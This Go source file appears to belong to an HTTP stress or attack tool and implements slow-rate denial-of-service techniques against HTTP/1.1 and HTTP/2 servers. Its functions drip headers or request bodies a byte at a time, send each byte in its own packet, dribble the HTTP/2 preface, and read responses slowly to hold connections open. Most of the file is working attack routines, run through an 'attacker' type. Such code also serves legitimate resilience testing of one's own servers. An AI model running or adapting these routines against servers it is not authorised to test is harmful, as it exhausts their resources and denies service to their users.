package main

import (
	"bytes"
	"fmt"
)

const slowStreams = 10

// drip sends b a byte every half second, and then its last byte for ever. A byte is nothing to the pace.
func (a *attacker) drip(b []byte) error {
	for i := 0; ; i++ {
		if err := a.send(b[min(i, len(b)-1):][:1]); err != nil {
			return err
		}
		if err := pause(a.ctx, slowPause); err != nil {
			return err
		}
	}
}

// slowHead2 gets as far as the header block and then takes its time.
func slowHead2(a *attacker) error {
	if err := a.open(nil); err != nil {
		return err
	}
	go a.frames(nil)
	block := appendRequest(nil, indexGet, smallPath)
	return a.drip(appendFrame(nil, frameHeaders, flagEndHeaders|flagEndStream, 1, appendLiteral(block, "x-slow", string(bytes.Repeat([]byte{'x'}, 1000)))))
}

// slowBody2 sends frames of one byte.
func slowBody2(a *attacker) error {
	if err := a.open(nil); err != nil {
		return err
	}
	go a.frames(nil)
	var heads, data []byte
	block := appendLiteral(appendRequest(nil, indexPost, smallPath), "content-length", "100000")
	for i := range uint32(slowStreams) {
		heads = appendFrame(heads, frameHeaders, flagEndHeaders, 1+2*i, block)
		data = appendFrame(data, frameData, 0, 1+2*i, []byte("x"))
	}
	if err := a.send(heads); err != nil {
		return err
	}
	return a.repeat(func() []byte { _ = pause(a.ctx, slowPause); return data })
}

func slowPreface(a *attacker) error {
	go a.frames(nil)
	return a.drip([]byte(preface))
}

// oneByte2 sends requests that are fine, in packets that are not.
func oneByte2(a *attacker) error {
	if err := a.open(nil); err != nil {
		return err
	}
	go a.frames(nil)
	block := appendRequest(nil, indexGet, smallPath)
	for stream := uint32(1); ; stream += 2 {
		if err := a.bytewise(appendFrame(nil, frameHeaders, flagEndHeaders|flagEndStream, stream, block)); err != nil {
			return err
		}
	}
}

// packetBytes is what a byte costs on the wire when it travels alone.
const packetBytes = 66

// bytewise sends every byte in a packet of its own.
func (a *attacker) bytewise(b []byte) error {
	for i := range b {
		if err := a.pace.take(a.ctx, packetBytes); err != nil {
			return err
		}
		if err := a.send(b[i : i+1]); err != nil {
			return err
		}
	}
	return nil
}

func oneByte(a *attacker) error {
	go a.discard()
	for {
		if err := a.bytewise([]byte("GET " + smallPath + " HTTP/1.1\r\nHost: a\r\n\r\n")); err != nil {
			return err
		}
	}
}

func slowHead(a *attacker) error {
	go a.discard()
	return a.drip([]byte("GET " + smallPath + " HTTP/1.1\r\nHost: a\r\nX-Slow: x"))
}

func slowBody(a *attacker) error {
	go a.discard()
	if err := a.send([]byte("POST " + smallPath + " HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n")); err != nil {
		return err
	}
	return a.drip([]byte("x"))
}

// slowRead takes a large body a kilobyte at a time, through a receive buffer that holds little.
func slowRead(a *attacker) error {
	if err := a.send([]byte("GET " + heldPath + " HTTP/1.1\r\nHost: a\r\n\r\n")); err != nil {
		return err
	}
	b := make([]byte, 1024)
	for {
		n, err := a.Read(b)
		a.tally.received.Add(int64(n))
		if err != nil {
			return a.left("", err)
		}
		if err := pause(a.ctx, slowPause); err != nil {
			return err
		}
	}
}

func silence(a *attacker) error {
	a.discard()
	return fmt.Errorf("ended")
}
